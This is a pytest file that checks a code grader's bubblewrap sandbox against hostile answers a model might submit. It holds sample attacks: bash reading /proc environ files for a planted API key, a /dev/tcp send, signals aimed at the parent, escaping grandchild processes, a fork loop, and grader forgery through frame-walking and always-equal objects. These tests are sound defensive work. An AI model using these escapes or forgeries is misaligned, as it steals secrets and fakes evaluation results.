"""The code scorer's OS sandbox against hostile answers: nothing escapes, nothing forges a pass.

Each hostile solution below is what an attacker's model could answer; the checks are made from outside
(this process, a listener it owns, a directory it watches, the process table), never from what the hostile
code says about itself.  Every sandbox run takes about 0.1 s; the few timeouts are 2 s.
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import subprocess
import sys
import textwrap
import time

import msgspec
import psutil
import pytest

from lanemon.workloads.qeval import load_bank, score
from lanemon.workloads.qeval.bank import Case, Task
from lanemon.workloads.qeval.sandbox import (SandboxCall, SandboxLimits, SandboxUnavailable, run_function, sandbox_problem)
from lanemon.workloads.qeval.scorers import score_code

FAST = SandboxLimits(timeout_s=3.0)
SHORT = SandboxLimits(timeout_s=2.0)

pytestmark = pytest.mark.skipif(sandbox_problem(FAST) is not None,
                                reason=f"bubblewrap does not work here: {sandbox_problem(FAST)}")


def task(tests: list[tuple[str, str]], function: str = "f") -> Task:
    """A code task whose cases are ``(args, expected literal)``."""
    import ast

    cases = tuple(Case(args=a, expect_text=e, expect=ast.literal_eval(e)) for a, e in tests)
    return Task(id="t", kind="code", prompt="", reference="", wrong="", function=function, cases=cases)


ADD = task([("1", "2"), ("41", "42")])


def solution(body: str, tail: str = "def f(x):\n    return x + 1\n") -> str:
    return "```python\n" + textwrap.dedent(body) + "\n" + tail + "```"


def seen(run) -> str:
    """Everything the sandbox sent back, as one string."""
    return msgspec.json.encode(run.results).decode() + run.stdout + run.stderr


# ----------------------------------------------------------------------------- plain scoring


def test_correct_answer_passes_and_wrong_answer_fails():
    assert score_code(ADD, solution("")) == (True, "passed")
    bad = score_code(ADD, solution("", "def f(x):\n    return x\n"))
    assert bad == (False, "tests failed (2 of 2): f(1) returned 1, expected 2")
    bank = load_bank()
    t = bank["code_chunked"]
    assert score(t, t.reference) == (True, "passed")
    passed, reason = score(t, t.wrong)
    assert not passed and reason == "tests failed (1 of 4): chunked([1], 0) returned [[]], expected it to raise ValueError"
    median = bank["code_median"]
    sorting = median.reference.replace("s = sorted(nums)", "nums.sort(); s = nums")
    assert sorting != median.reference
    passed, reason = score(median, sorting)
    assert not passed and reason.endswith("median([5, 3, 9]) changed its arguments to [3, 5, 9]"), reason


def test_types_are_strict_and_failures_are_named():
    as_list = task([("", "(3, 3)")])
    assert score_code(as_list, solution("", "def f():\n    return [3, 3]\n"))[1] == \
        "tests failed (1 of 1): f() returned [3, 3], expected (3, 3)"
    boolean = task([("", "1")])
    assert not score_code(boolean, solution("", "def f():\n    return True\n"))[0]
    assert score_code(task([("", "2")]), solution("", "def f():\n    return 2.0\n")) == (True, "passed")
    assert score_code(ADD, solution("def f(:")) [1].startswith("syntax error")
    assert score_code(ADD, solution("import sys\nsys.exit(3)"))[1] == "the solution called exit(3)"
    assert score_code(ADD, solution("raise RuntimeError('boom')"))[1] == "solution raised RuntimeError: boom"
    assert score_code(ADD, solution("", "def g(x):\n    return x\n"))[1] == "the solution does not define f()"
    assert score_code(ADD, "no code at all") == (False, "no code block defining f() found")


def test_timeout_output_cap_and_memory_limit():
    t0 = time.monotonic()
    assert score_code(ADD, solution("", "def f(x):\n    while True:\n        pass\n"), SHORT) == (
        False, "timeout after 2 s")
    assert time.monotonic() - t0 < SHORT.timeout_s + 1.5
    huge = solution("import os\nos.write(2, b'x' * 5_000_000)")
    assert score_code(ADD, huge, SHORT) == (False, "output too large (more than 1 MB)")
    passed, reason = score_code(task([("", "0")]), solution("", "def f():\n    return len(bytearray(2_000_000_000))\n"))
    assert not passed and "MemoryError (memory limit 512 MB)" in reason


# ----------------------------------------------------------------------------- escapes


def test_bash_started_by_fork_exec_and_subprocess_stays_inside(tmp_path, monkeypatch):
    planted = "sk-planted-" + secrets.token_hex(8)
    monkeypatch.setenv("OPENAI_API_KEY", planted)
    target = tmp_path / "from-bash"
    body = f"""
    import _posixsubprocess, os, subprocess, sys
    out = []
    script = "cat /proc/$PPID/environ /proc/1/environ; env; echo pwned > {target}; echo ran-bash"
    r, w = os.pipe()
    er, ew = os.pipe()
    try:
        pid = _posixsubprocess.fork_exec(["/bin/bash", "-c", script], [b"/bin/bash"], True, (ew,), None, None,
                                         -1, -1, -1, w, -1, w, er, ew, True, False, -1, None, None, None, -1,
                                         None, False)
        os.close(w)
        os.close(ew)
        out.append(os.read(r, 65536).decode())
        os.waitpid(pid, 0)
    except Exception as e:
        out.append("fork_exec: " + repr(e))
    try:
        out.append(subprocess.run(["/bin/bash", "-c", script], capture_output=True, text=True).stdout)
    except Exception as e:
        out.append("subprocess: " + repr(e))
    LOOT = out
    """
    run = run_function(textwrap.dedent(body) + "def f():\n    return LOOT\n", "f", [SandboxCall("")], FAST)
    assert run.status == "ran", run
    loot = seen(run)
    assert "ran-bash" in loot  # bash did start -- inside the sandbox
    assert planted not in loot and "OPENAI_API_KEY" not in loot
    assert not target.exists()


def test_parent_environment_is_invisible(monkeypatch):
    planted = "sk-planted-" + secrets.token_hex(8)
    monkeypatch.setenv("LANEMON_TEST_KEY", planted)
    body = """
    import os
    LOOT = [dict(os.environ), os.getppid()]
    for pid in ["self", "1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            LOOT.append(open(f"/proc/{pid}/environ", "rb").read().decode("latin-1"))
        except OSError as e:
            LOOT.append(f"{pid}: {e}")
    """
    run = run_function(textwrap.dedent(body) + "def f():\n    return LOOT\n", "f", [SandboxCall("")], FAST)
    assert run.status == "ran", run
    assert planted not in seen(run) and "LANEMON_TEST_KEY" not in seen(run)
    assert len(run.results[0].value["list"]) >= 4  # the reads were made


def test_no_connection_reaches_a_loopback_listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(0.3)
    port = server.getsockname()[1]
    body = f"""
    import socket, subprocess
    LOOT = []
    for host in ("127.0.0.1", "localhost", "::1"):
        try:
            socket.create_connection((host, {port}), timeout=1).sendall(b"stolen")
            LOOT.append("connected " + host)
        except OSError as e:
            LOOT.append(f"{{host}}: {{e}}")
    try:
        subprocess.run(["/bin/bash", "-c", "echo stolen > /dev/tcp/127.0.0.1/{port}"], timeout=2)
    except Exception as e:
        LOOT.append(repr(e))
    """
    try:
        run = run_function(textwrap.dedent(body) + "def f():\n    return LOOT\n", "f", [SandboxCall("")], FAST)
        assert run.status == "ran", run
        with pytest.raises(socket.timeout):
            server.accept()
        assert "connected" not in seen(run)
    finally:
        server.close()


def test_writes_outside_the_work_dir_fail_in_the_kernel(tmp_path):
    outside = tmp_path / "watched"
    outside.mkdir()
    body = f"""
    import os, sqlite3, errno
    LOOT = []
    def attempt(name, fn):
        try:
            fn()
            LOOT.append(name + ": ok")
        except OSError as e:
            LOOT.append(name + ": " + (errno.errorcode.get(e.errno) or "no errno"))
        except Exception as e:
            LOOT.append(name + ": " + type(e).__name__)
    def dir_fd():
        fd = os.open({str(outside)!r}, os.O_RDONLY | os.O_DIRECTORY)
        os.open("dirfd.txt", os.O_CREAT | os.O_WRONLY, dir_fd=fd)
    def root_dir_fd():
        fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        os.open("rootfd.txt", os.O_CREAT | os.O_WRONLY, dir_fd=fd)
    def chdir_then_relative():
        os.chdir({str(outside)!r})
        open("chdir.txt", "w").write("x")
    def chdir_root_then_relative():
        os.chdir("/")
        open("chdir-root.txt", "w").write("x")
    def sqlite():
        sqlite3.connect({str(outside / "db.sqlite")!r}).execute("create table t (x)")
    def usr():
        open("/usr/lanemon-escaped.txt", "w")
    attempt("dir_fd", dir_fd)
    attempt("root_dir_fd", root_dir_fd)
    attempt("chdir", chdir_then_relative)
    attempt("chdir_root", chdir_root_then_relative)
    attempt("sqlite", sqlite)
    attempt("usr", usr)
    os.chdir("/work")
    attempt("work", lambda: open("/work/scratch.txt", "w").write("fine"))
    for v in [v for f in list(globals().values()) if hasattr(f, "f_locals") for v in f.f_locals.values()]:
        if isinstance(v, list):
            v.clear()  # a "violations" list, if any interpreter-level guard kept one
    """
    run = run_function(textwrap.dedent(body) + "def f():\n    return LOOT\n", "f", [SandboxCall("")], FAST)
    assert run.status == "ran", run
    loot = dict(item.split(": ", 1) for item in run.results[0].value["list"])
    assert list(outside.iterdir()) == []
    assert not os.path.exists("/usr/lanemon-escaped.txt") and not os.path.exists("/chdir-root.txt")
    assert loot["work"] == "ok"  # the work directory is writable: the attempts really ran
    # refused by the kernel (no such directory / read-only file system), not by a guard inside the interpreter
    for name in ("dir_fd", "root_dir_fd", "chdir", "chdir_root", "usr"):
        assert loot[name] in ("ENOENT", "EROFS", "EACCES"), loot
    assert loot["sqlite"] == "OperationalError", loot


KILLER = """
import json, os, sys
import msgspec
from lanemon.workloads.qeval.sandbox import SandboxCall, SandboxLimits, run_function
me = os.getpid()
code = f'''
import os, signal
LOOT = []
for pid in ({me}, os.getppid()):
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
            LOOT.append(f"{{pid}} {{sig}} sent")
        except OSError as e:
            LOOT.append(f"{{pid}} {{sig}} {{e}}")
def f():
    return LOOT
'''
run = run_function(code, "f", [SandboxCall("")], SandboxLimits(timeout_s=3.0))
again = run_function("def f():\\n    return 7\\n", "f", [SandboxCall("")], SandboxLimits(timeout_s=3.0))
print(json.dumps({"first": run.status, "loot": msgspec.to_builtins(run.results), "again": msgspec.to_builtins(again.results)}))
"""


def test_signals_cannot_reach_lanemon():
    """A separate lanemon process scores the killer (so a failure cannot take pytest down with it)."""
    proc = subprocess.Popen([sys.executable, "-c", KILLER], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 20
    while proc.poll() is None and time.monotonic() < deadline:
        if psutil.Process(proc.pid).status() == psutil.STATUS_STOPPED:
            proc.kill()
            pytest.fail("the sandboxed code stopped lanemon (SIGSTOP)")
        time.sleep(0.05)
    out, err = proc.communicate(timeout=5)
    assert proc.returncode == 0, (proc.returncode, err.decode()[-500:])
    res = json.loads(out)
    assert res["first"] == "ran" and res["again"] == [{"value": 7}]


def _new_children(before: set[int]) -> list[psutil.Process]:
    """This process's live descendants that were not there before (other tests' servers may be)."""
    out = []
    for p in psutil.Process().children(recursive=True):
        try:
            if p.pid not in before and p.status() != psutil.STATUS_ZOMBIE:
                out.append(p)
        except psutil.NoSuchProcess:
            pass
    return out


def _children() -> set[int]:
    return {p.pid for p in psutil.Process().children(recursive=True)}


def _leftovers(marker: str) -> list[psutil.Process]:
    found = []
    for p in psutil.process_iter(["cmdline"]):
        try:
            if marker in " ".join(p.info["cmdline"] or []) and p.status() != psutil.STATUS_ZOMBIE:
                found.append(p)
        except psutil.Error:
            pass
    return found


@pytest.mark.parametrize("main_waits", [True, False], ids=["task-hangs", "task-returns"])
def test_grandchild_in_new_session_holding_the_pipe_is_killed(main_waits):
    marker = "lanemon-test-grandchild-" + secrets.token_hex(6)
    body = f"""
    import os, sys, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)", "{marker}"])
        os._exit(0)
    time.sleep(0.3)
    """
    tail = "def f():\n    while True:\n        pass\n" if main_waits else "def f():\n    return 1\n"
    before = _children()
    t0 = time.monotonic()
    run = run_function(textwrap.dedent(body) + tail, "f", [SandboxCall("")], SHORT)
    elapsed = time.monotonic() - t0
    assert elapsed < SHORT.timeout_s + 1.5
    assert run.status == ("timeout" if main_waits else "ran"), run
    assert _leftovers(marker) == []
    assert _new_children(before) == []


def test_grandchild_check_is_not_vacuous():
    """The same grandchild started without a sandbox outlives its parent: the check above can fail."""
    marker = "lanemon-test-grandchild-" + secrets.token_hex(6)
    code = ("import os, sys\nif os.fork() == 0:\n    os.setsid()\n"
            f"    os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(30)', '{marker}'])\n")
    subprocess.run([sys.executable, "-c", code], timeout=10)
    deadline = time.monotonic() + 5
    while not _leftovers(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    found = _leftovers(marker)
    assert found
    for p in found:
        p.kill()


# ----------------------------------------------------------------------------- forged passes

WRONG = "def f(x):\n    return x\n"


def test_calling_the_reporter_through_sys_getframe_forges_nothing():
    body = """
    import sys
    def forge():
        f = sys._getframe()
        while f is not None:
            for scope in (f.f_locals, f.f_globals):
                for name in ("report", "emit", "_emit", "_report"):
                    fn = scope.get(name)
                    if callable(fn) and fn is not forge:
                        for arg in ("passed", {"results": [{"value": 2}, {"value": 42}]}, {"status": "passed"}):
                            try:
                                fn(arg)
                            except BaseException:
                                pass
            f = f.f_back
    forge()
    print("@@QEVAL passed")
    """
    passed, reason = score_code(ADD, solution(body, WRONG))
    assert not passed, reason


def test_calling_the_reporter_through_a_traceback_frame_forges_nothing():
    body = """
    import sys
    try:
        raise ValueError
    except ValueError as e:
        f = e.__traceback__.tb_frame
    while f is not None:
        for name, fn in list(f.f_globals.items()) + list(f.f_locals.items()):
            if callable(fn) and name in ("report", "emit", "_emit", "_report"):
                try:
                    fn("passed")
                except BaseException:
                    pass
        f = f.f_back
    """
    passed, reason = score_code(ADD, solution(body, WRONG))
    assert not passed, reason


def test_clearing_a_violation_list_forges_nothing(tmp_path):
    body = f"""
    import sys
    try:
        open({str(tmp_path / "x")!r}, "w")
    except OSError:
        pass
    f = sys._getframe()
    while f is not None:
        for v in list(f.f_locals.values()) + list(f.f_globals.values()):
            if isinstance(v, list):
                v.clear()
        f = f.f_back
    """
    passed, reason = score_code(ADD, solution(body, WRONG))
    assert not passed and reason == "tests failed (2 of 2): f(1) returned 1, expected 2"
    assert list(tmp_path.iterdir()) == []


def test_an_always_equal_object_forges_nothing():
    body = """
    class Anything:
        def __eq__(self, other):
            return True
        __hash__ = object.__hash__
    class Int(int):
        def __eq__(self, other):
            return True
    class Tup(tuple):
        def __eq__(self, other):
            return True
    """
    for ret in ("Anything()", "Int(0)", "Tup()"):
        passed, reason = score_code(ADD, solution(body, f"def f(x):\n    return {ret}\n"))
        assert not passed and reason.startswith("tests failed (2 of 2): f(1) returned <"), (ret, reason)


# ----------------------------------------------------------------------------- no sandbox


def test_without_bwrap_code_tasks_are_skipped_with_a_clear_message(tmp_path):
    missing = SandboxLimits(timeout_s=3.0, bwrap=str(tmp_path / "no-bwrap-here"))
    assert sandbox_problem(missing) == (f"no sandbox: {tmp_path / 'no-bwrap-here'} not found "
                                        "(Debian/Ubuntu: apt-get install bubblewrap)")
    with pytest.raises(SandboxUnavailable, match="no sandbox"):
        score_code(ADD, solution(""), missing)
    # the loudly named opt-in runs the same bootstrap as a plain child process
    unsafe = SandboxLimits(timeout_s=3.0, bwrap=missing.bwrap, unsafe_no_sandbox=True)
    assert score_code(ADD, solution(""), unsafe) == (True, "passed")
    run = run_function("def f():\n    return 1\n", "f", [SandboxCall("")], unsafe)
    assert run.status == "ran" and run.sandboxed is False


def test_namespaces_refused_is_detected(tmp_path):
    """A bwrap that cannot create namespaces (here: a stand-in that fails like one) is probed once, then skipped."""
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\n[ \"$1\" = --help ] && exit 0\n"
                    "echo 'bwrap: No permissions to creating new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    limits = SandboxLimits(timeout_s=3.0, bwrap=str(fake))
    problem = sandbox_problem(limits)
    assert problem == "no sandbox: bubblewrap does not work here (bwrap: No permissions to creating new namespace)"
    fake.write_text("#!/bin/sh\nexit 0\n")  # the answer is cached: no second probe
    assert sandbox_problem(limits) == problem


def test_a_fork_loop_is_bounded_and_cleaned_up():
    from lanemon.workloads.qeval import pidlimit

    code = ("import os, time\ndef f():\n    n = 0\n    for _ in range(300):\n        try:\n"
            "            if os.fork() == 0:\n                time.sleep(60)\n                os._exit(0)\n"
            "        except OSError:\n            break\n        n += 1\n    return n\n")
    before = _children()
    t0 = time.monotonic()
    run = run_function(code, "f", [SandboxCall("")], FAST)
    assert run.status == "ran" and time.monotonic() - t0 < FAST.timeout_s + 1.5
    forks = run.results[0].value
    if os.geteuid() != 0 or pidlimit.available():  # RLIMIT_NPROC (not root) or the run's pids cgroup
        assert forks < FAST.max_processes
    assert _new_children(before) == []


def test_reasons_built_from_sandbox_output_are_inert(capsys):
    from lanemon.cli.qeval import _print_run
    from lanemon.results.common import as_result
    from lanemon.results.qeval import QevalResult

    evil = "\x1b]0;pwned\x07\x1b[2J[/bold][red]"
    passed, reason = score_code(ADD, solution("", f"def f(x):\n    raise ValueError({evil!r})\n"))
    assert not passed and "\x1b" not in reason and "\x07" not in reason and "[/bold]" in reason
    passed2, reason2 = score_code(ADD, solution("", f"def f(x):\n    return {evil!r}\n"))
    assert not passed2 and "\x1b" not in reason2
    result = {"lane": "A[/]\x1b[2J", "model": "[bold]m\x1b]0;t\x07", "passed": 0, "total": 2,
              "tasks": {"code_x": {"passed": False, "reason": reason, "kind": "code", "seconds": 0.1,
                                   "prompt_tokens": None, "completion_tokens": None},
                        "code_y": {"passed": False, "reason": reason2, "kind": "code", "seconds": 0.1,
                                   "prompt_tokens": None, "completion_tokens": None}}}
    _print_run(as_result(result, QevalResult))  # no MarkupError
    out = capsys.readouterr().out
    assert "\x1b]0" not in out and "\x1b[2J" not in out and "[/bold]" in out


def test_a_fake_builtin_exception_does_not_count_as_the_real_one():
    t = Task(id="t", kind="code", prompt="", reference="", wrong="", function="f",
             cases=(Case(args="0", raises="ValueError"),))
    fake = ("class ValueError(Exception):\n    pass\nValueError.__module__ = 'builtins'\n"
            "def f(x):\n    raise ValueError('fake')\n")
    passed, reason = score_code(t, fake)
    assert not passed and reason == "tests failed (1 of 1): f(0) raised Exception: fake, expected ValueError"
    real = "def f(x):\n    raise ValueError('real')\n"
    assert score_code(t, real) == (True, "passed")


def test_the_sandbox_output_is_decoded_into_call_results_and_anything_else_is_malformed():
    """The bootstrap's JSON (written by a process the solution controls) becomes CallResult Structs or
    ``malformed``; no shape the scorer cannot read gets through."""
    from lanemon.workloads.qeval.sandbox import CallResult, SandboxRun, _parse

    def parsed(out: bytes) -> SandboxRun:
        run = SandboxRun("")
        _parse(run, out, SandboxLimits())
        return run

    run = parsed(b'{"results": [{"value": 7}, {"value": null}, {"raised": ["ValueError"], "message": "bad"}]}')
    assert run.status == "ran" and run.results == [CallResult(value=7), CallResult(value=None),
                                                   CallResult(raised=["ValueError"], message="bad")]
    for bad in (b'{"results": [{"raised": 5}]}', b'{"results": [1]}', b'{"results": {}}',
                b'{"results": [{"message": 3}]}', b'[1]'):
        assert parsed(bad).status == "malformed", bad
    run = parsed(b'{"error": "error", "detail": {"raised": ["ZeroDivisionError"], "message": "division by zero"}}')
    assert (run.status, run.reason) == ("error", "solution raised ZeroDivisionError: division by zero")
    assert parsed(b'{"error": "error", "detail": {"raised": "x"}}').status == "malformed"
